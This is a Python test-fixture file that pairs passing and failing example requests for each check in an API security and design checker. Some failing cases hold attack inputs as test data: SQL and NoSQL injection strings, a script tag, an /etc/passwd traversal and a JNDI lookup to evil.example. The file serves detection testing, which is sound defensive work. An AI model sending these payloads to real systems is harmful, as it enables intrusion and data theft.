"""For every check on requests one that passes and one that fails: changes of a good request.

Besides the fields of `Event`: `template`, `asked` and `answered` (headers added; None takes one
away), `is_bad` (of the address).
"""

from typing import Any

from tests.support.events import INVALID_JSON

Example = dict[str, Any]

ERROR = {"status": 400, "response_body": {"type": "about:blank", "title": "Bad", "status": 400}}
PROBLEM = {"content-type": "application/problem+json"}
MANY = [{"id": str(n)} for n in range(150)]
ALLOWED = "access-control-allow-origin"
CREDENTIALS = {"access-control-allow-credentials": "true"}
POST = {"method": "POST", "status": 201}

# code: (passes, fails)
EXAMPLES: dict[str, tuple[Example, Example]] = {
    "secure-connection": ({"scheme": "https"}, {"asked": {"x-forwarded-proto": "http"}}),
    "force-secure-connection": ({}, {"answered": {"strict-transport-security": None}}),
    "mime-sniffing": ({}, {"answered": {"x-content-type-options": None}}),
    "embedding-prevention": (
        {
            "answered": {
                "x-frame-options": None,
                "content-security-policy": "frame-ancestors 'none'",
            }
        },
        {"answered": {"x-frame-options": None}},
    ),
    "content-security-policy": ({}, {"answered": {"content-security-policy": None}}),
    "content-labeling": (
        {"status": 204, "answered": {"content-type": None}, "response_body": None},
        {"answered": {"content-type": None}},
    ),
    "rate-limit-headers": (
        {"answered": {"ratelimit": None, "x-ratelimit-limit": "100"}},
        {"answered": {"ratelimit": None}},
    ),
    "cors-credentials": (
        {"answered": {"access-control-allow-origin": "*"}},
        {
            "answered": {
                "access-control-allow-origin": "*",
                "access-control-allow-credentials": "true",
            }
        },
    ),
    "cors-reflected-origin": (
        {
            "asked": {"origin": "https://www.shop.example"},
            "answered": CREDENTIALS | {ALLOWED: "https://www.shop.example"},
        },
        {
            "asked": {"origin": "https://other.example"},
            "answered": CREDENTIALS | {ALLOWED: "https://other.example"},
        },
    ),
    "cookie-attributes": (
        {"answered": {"set-cookie": ["a=1; Secure; HttpOnly; SameSite=Lax", "****"]}},
        {"answered": {"set-cookie": "a=1; Path=/"}},
    ),
    "private-data-cached": ({}, {"answered": {"cache-control": "public, max-age=60"}}),
    "sequential-ids": ({}, {"path": "/v1/orders/1042"}),
    "basic-authentication": ({}, {"asked": {"authorization": "Basic ****"}}),
    "ip-reputation": ({}, {"is_bad": True}),
    "accept-header": ({}, {"asked": {"accept": None}}),
    "authorization": (
        {"asked": {"authorization": None, "cookie": "****"}},
        {"asked": {"authorization": None}},
    ),
    "debug-methods": ({}, {"method": "TRACE"}),
    "injection-accepted": (
        {"query": {"q": "' OR 1=1 --"}, **ERROR},
        {"query": {"q": "' OR 1=1 --"}},
    ),
    "sql-injection": (
        {"query": {"q": "O'Brien and sons"}},
        {"query": {"id": "1 UNION SELECT password FROM users"}},
    ),
    "script-injection": (
        {**POST, "request_body": {"text": "<b>bold</b> and 3 < 4"}},
        {**POST, "request_body": {"text": "<script>alert(1)</script>"}},
    ),
    "path-traversal": (
        {"query": {"file": "../logo.png"}},
        {"path": "/v1/files/..%2f..%2f..%2fetc%2fpasswd"},
    ),
    "command-injection": (
        {"query": {"q": "fish & chips; curl up"}},
        {"query": {"q": "${jndi:ldap://evil.example/a}"}},
    ),
    "nosql-injection": (
        {"query": {"$filter": "price gt 10"}},
        {**POST, "request_body": {"user": {"$ne": ""}}},
    ),
    "secret-in-url": ({"query": {"page_token": "abc"}}, {"query": {"api_key": "****"}}),
    "personal-data-in-url": ({"query": {"q": "ana at mail"}}, {"query": {"q": "ana@mail.example"}}),
    "secret-in-response": (
        {"response_body": {"access_token": "****"}, "template": "/v1/oauth/token"},
        {"response_body": {"user": {"password": "****"}}},
    ),
    "stack-trace": (
        {**ERROR, "response_body": {"error": "File not found"}},
        {**ERROR, "response_body": "Traceback (most recent call last):\n…"},
    ),
    "database-error": (
        {**ERROR, "response_body": {"error": "a name that is taken"}},
        {**ERROR, "response_body": {"error": {"message": "SQLSTATE[42S02]: Base table"}}},
    ),
    "server-version": ({"answered": {"server": "nginx"}}, {"answered": {"server": "nginx/1.18.0"}}),
    "method-status": (
        {**POST, "response_body": {"id": "x", "status": "failed", "error": "card declined"}},
        {"response_body": {"error": "no such order"}},
    ),
    "method-limiting": (
        {"status": 405, "answered": {"allow": "POST"}},
        {"status": 405},
    ),
    "retry-after": ({"status": 429, "answered": {"retry-after": "5"}}, {"status": 429}),
    "authentication-challenge": (
        {"status": 401, "answered": {"www-authenticate": "Bearer"}},
        {"status": 401},
    ),
    "location-of-created": (
        {**POST, "response_body": {"data": {"id": "x"}}},
        {**POST, "response_body": {"message": "made"}},
    ),
    "body-in-get": ({"request_body": {}}, {"request_body": {"filter": "x"}}),
    "idempotency": (
        {**POST, "template": "/v1/payments", "asked": {"idempotency-key": "x"}},
        {**POST, "template": "/v1/payments"},
    ),
    "plural-nouns": (
        {"template": "/v1/people/{id}/addresses/{address_id}"},
        {"template": "/v1/order/{id}"},
    ),
    "verbs-in-path": ({"template": "/v1/posts/{id}/lists"}, {"template": "/v1/getOrders"}),
    "path-spelling": (
        {"template": "/v1/shipping-addresses"},
        {"template": "/v1/shippingAddresses"},
    ),
    "nesting-depth": (
        {"template": "/v1/a/{a}/b/{b}/c/{c}"},
        {"template": "/v1/a/{a}/b/{b}/c/{c}/d/{d}"},
    ),
    "versioning-in-use": (
        {"template": "/orders/{id}", "path": "/v2/orders/7"},
        {"template": "/orders/{id}", "path": "/orders/7"},
    ),
    "json-content-type": (
        {"answered": {"content-type": "application/vnd.shop+json"}},
        {"answered": {"content-type": "text/html; charset=utf-8"}},
    ),
    "json-validity": (
        {"response_body": "ok"},
        {"response_body": None, "errors": (INVALID_JSON,)},
    ),
    "date-format": (
        {"response_body": {"created_at": "2026-03-01T12:00:00+01:00", "due_date": "2026-03-01"}},
        {"response_body": {"due_date": "03/01/2026"}},
    ),
    "mixed-names": (
        {"response_body": {"first_name": "Ana", "last_name": "H"}},
        {"response_body": {"first_name": "Ana", "lastName": "H"}},
    ),
    "error-body": (ERROR, {"status": 500, "response_body": "Internal Server Error"}),
    "problem-details": (
        {**ERROR, "answered": PROBLEM},
        {"status": 400, "response_body": {"error": "bad"}},
    ),
    "caching-headers": (
        {"answered": {"cache-control": None, "etag": '"x"'}},
        {"answered": {"cache-control": None}},
    ),
    "pagination": (
        {"response_body": {"data": MANY, "next": "/v1/orders?page=2"}},
        {"response_body": MANY},
    ),
    "cdn": (
        {"answered": {"cache-control": "public"}, "asked": {"cf-ray": "8f"}},
        {"answered": {"cache-control": "public"}},
    ),
    "load-time": ({"load_time_ms": 500.0}, {"load_time_ms": 501.0}),
    "response-size": ({"response_size_bytes": 1_000_000}, {"response_size_bytes": 1_000_001}),
    "compression": (
        {"answered": {"content-encoding": None}, "response_size_bytes": 1000},
        {"answered": {"content-encoding": None}, "response_size_bytes": 50_000},
    ),
    "http2": (
        {"scheme": "https", "server": {"protocol": "HTTP/2"}},
        {"scheme": "https", "asked": {"x-forwarded-proto": None}},
    ),
    "client-error-400": ({"status": 404}, {"status": 400}),
    "client-error-401-403": ({"status": 404}, {"status": 403}),
    "client-error-404": ({"status": 400}, {"status": 404}),
    "client-error-4xx": ({"status": 500}, {"status": 422}),
    "client-error-429": ({"status": 400}, {"status": 429}),
    "server-error-500": ({"status": 502}, {"status": 500}),
    "server-error-502-504": ({"status": 500}, {"status": 503}),
    "server-error-5xx": ({"status": 400}, {"status": 500}),
}
